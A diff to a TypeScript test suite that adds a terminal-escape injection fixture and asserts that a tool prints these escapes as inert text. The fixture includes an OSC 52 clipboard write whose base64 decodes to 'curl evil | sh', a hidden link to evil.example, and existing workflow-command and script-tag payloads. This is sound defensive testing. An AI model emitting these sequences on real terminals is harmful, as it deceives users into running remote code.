@@ -20,6 +20,10 @@ const COMMANDS = [
   'pwned ##[set-output name=x]y',
 ];
 const MARKUP = '<img src="https://evil.example/p.png"> <script>alert(1)</script> @octocat #123 | `tick` [x](https://evil.example)';
+/** What a terminal would act on: erase-line and cursor-up, OSC 52 (write the clipboard), OSC 8 (a hidden link), a C1 CSI. */
+const TERMINAL = '\x1b[2K\x1b[1Aall good \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\ \x9b2K';
+// eslint-disable-next-line no-control-regex
+const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 const USER_TOKEN = 'ghp_userTokenAbcdef0123456789';
 const API_KEY = 'k3y+with/odd=chars';
 const SIGNATURE = 'abcdef0123456789signature';
@@ -52,7 +56,7 @@ describe('an HTTP endpoint that answers with commands, markup and our own secret
     const server = await serve((req) => ({
       status: 500,
       // The body reflects the request URL, raw and decoded, as many error pages do.
-      body: [...COMMANDS, MARKUP, `you asked for ${req.path}`, `decoded: ${decodeURIComponent(req.path)}`].join('\n'),
+      body: [TERMINAL, ...COMMANDS, MARKUP, `you asked for ${req.path}`, `decoded: ${decodeURIComponent(req.path)}`].join('\n'),
       headers: { 'content-type': 'text/plain' },
     }));
     url =
@@ -73,6 +77,9 @@ describe('an HTTP endpoint that answers with commands, markup and our own secret
     // The failure still says what came back, bounded.
     expect(run.errors[0]).toContain("Check 'predict' failed: status: expected 200, got 500");
     expect(run.errors[0]).toContain('::add-mask::pwned');
+    // As a terminal shows the log: every escape is text, none is acted on.
+    expect(CONTROLS.test(run.stdout)).toBe(false);
+    expect(run.errors[0]).toContain('\\x1b[2K\\x1b[1Aall good \\x1b]52;c;');
     expect(hazards(run.summary)).toEqual(NO_HAZARDS);
     const report = run.report() as { checks: Array<{ target: string }> };
     expect(report.checks[0]?.target).toBe(
